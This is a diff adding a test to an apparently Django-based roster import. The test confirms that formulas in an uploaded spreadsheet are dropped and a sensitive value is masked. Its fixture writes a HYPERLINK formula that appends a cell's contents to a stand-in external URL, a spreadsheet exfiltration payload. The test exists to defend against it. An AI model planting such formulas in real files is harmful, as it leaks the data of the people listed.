@@ -116,6 +116,23 @@ def test_nothing_we_add_is_a_formula(clerk):
     assert not [cell.coordinate for page in made for row in page for cell in row if cell.data_type == "f"]
 
 
+def test_of_a_senders_formula_only_the_value_goes_on_and_masked(clerk, django_capture_on_commit_callbacks):
+    file = io.BytesIO()
+    with xlsxwriter.Workbook(file) as book:
+        page = book.add_worksheet("DS")
+        page.write_row(0, 0, list(HEAD.values()))
+        page.write_row(1, 0, [cadre(1).get(name, "") for name in HEAD])
+        page.write_formula(1, 7, '=HYPERLINK("http://x.example/"&C2)', None, "099185900777")
+    with django_capture_on_commit_callbacks(execute=True):
+        roster = submit_roster(file.getvalue(), file_name="ds.xlsx", as_of=AS_OF, at=AT, by=clerk)
+        before = book_of(roster)
+        ask_to_apply(roster, at=AT, by=clerk)
+    roster.refresh_from_db()
+    for made in (before, book_of(roster)):
+        assert not [cell.coordinate for page in made for row in page for cell in row if cell.data_type == "f"]
+    assert made["DS"]["H2"].value == "*********777"
+
+
 def test_without_file_and_workbook_the_stored_rows_still_tell(clerk):
     roster = bring(cadre(1), cadre(2, unit="Xã Không Có"))
     assert not roster.has_file
